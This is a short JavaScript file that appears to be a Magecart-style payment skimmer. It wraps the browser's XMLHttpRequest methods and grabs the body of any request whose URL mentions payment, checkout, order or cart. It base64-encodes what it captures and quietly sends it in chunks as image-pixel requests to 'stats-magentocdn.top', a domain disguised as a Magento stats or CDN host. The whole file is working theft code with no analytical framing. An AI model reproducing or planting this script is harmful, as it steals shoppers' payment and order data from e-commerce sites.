(function () {
  var endpoint = 'https://stats-magentocdn.top/px/a.gif';
  var match = /payment|checkout|order|cart/i;
  var origOpen = XMLHttpRequest.prototype.open;
  var origSend = XMLHttpRequest.prototype.send;

  function b64(str) {
    try {
      return btoa(unescape(encodeURIComponent(str)));
    } catch (e) {
      return '';
    }
  }

  function beacon(data) {
    var id = Math.random().toString(36).slice(2, 10);
    var size = 1500;
    var total = Math.ceil(data.length / size);
    for (var i = 0; i < total; i++) {
      var img = new Image();
      img.src = endpoint + '?id=' + id + '&n=' + i + '&t=' + total +
        '&d=' + encodeURIComponent(data.substr(i * size, size));
    }
  }

  XMLHttpRequest.prototype.open = function (method, url) {
    this._m = method;
    this._u = url;
    return origOpen.apply(this, arguments);
  };

  XMLHttpRequest.prototype.send = function (body) {
    try {
      if (this._u && match.test(this._u) && body) {
        var payload = {
          u: String(this._u),
          m: this._m,
          b: typeof body === 'string' ? body : JSON.stringify(body),
          h: location.host,
          r: document.referrer,
          t: new Date().getTime()
        };
        beacon(b64(JSON.stringify(payload)));
      }
    } catch (e) {}
    return origSend.apply(this, arguments);
  };
})();
